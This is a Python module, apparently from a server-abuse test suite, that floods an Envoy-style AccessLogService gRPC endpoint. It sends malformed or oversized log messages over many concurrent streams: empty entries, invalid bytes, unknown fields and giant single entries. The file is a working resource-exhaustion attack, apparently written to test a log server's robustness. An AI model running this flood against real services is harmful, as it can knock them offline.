"""A hostile Envoy's access log: messages of nothing, of bytes that are no text, and of what no log has."""

from __future__ import annotations

import asyncio
import contextlib
from typing import TYPE_CHECKING, Any, Final

import grpc

from bench.abuse.discovery import field

if TYPE_CHECKING:
    from collections.abc import Callable

METHOD: Final = "/envoy.service.accesslog.v3.AccessLogService/StreamAccessLogs"
_MOST_BYTES: Final = 60 << 20


def _logs(entry: bytes, size: int) -> bytes:
    """Return a message of about so many bytes that is full of an entry."""
    return field(2, entry * (size // len(entry)))


KINDS: Final[dict[str, Callable[[int], bytes]]] = {
    "empty": lambda size: _logs(field(1, b""), size),
    "no_text": lambda size: _logs(field(1, field(2, field(5, b"\xff"))), size),
    "one_entry": lambda size: field(2, field(1, field(1, field(15, b"") * (size // 2)))),
    "other_fields": lambda size: b"\x48\x01" * (size // 2),
    "plain": lambda size: _logs(field(1, field(1, field(15, b"chat"))), size),
}
"""A message of about so many bytes, which is sent again and again."""


async def attack(
    address: str,
    kind: str,
    size: int = 2_000_000,
    *,
    streams: int = 12,
    most_bytes: int = 256 << 20,
    seconds: float = 10.0,
) -> int:
    """Tell of requests on so many streams, as fast as they are taken."""
    message, sent = KINDS[kind](size), 0

    async def one(channel: grpc.aio.Channel) -> None:
        nonlocal sent
        stream: Any = channel.stream_unary(METHOD)
        while sent < most_bytes:
            call = stream()
            with contextlib.suppress(grpc.aio.AioRpcError, asyncio.InvalidStateError):
                while sent < most_bytes:
                    await call.write(message)
                    sent += len(message)
            await asyncio.sleep(0.01)

    options = [("grpc.max_send_message_length", _MOST_BYTES)]
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds), grpc.aio.insecure_channel(address, options=options) as channel:
            await asyncio.gather(*(one(channel) for _ in range(streams)))
    return sent
